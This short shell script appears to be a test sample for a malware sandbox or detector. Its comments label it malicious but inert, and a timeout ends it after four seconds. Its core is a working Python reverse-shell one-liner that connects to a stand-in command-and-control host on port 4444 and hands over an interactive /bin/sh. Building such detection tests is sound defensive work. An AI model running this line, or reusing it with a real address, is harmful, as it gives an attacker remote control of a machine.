#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: python reverse shell that gives the operator a pty (T1059.006).
# Inert: the address is a name only the fake resolver answers; the fake service sends no
# commands, and the shell is ended after four seconds.
timeout 4 python3 -c 'import socket,os,pty;s=socket.create_connection(("c2.example.test",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
echo "shell ended"
exit 0
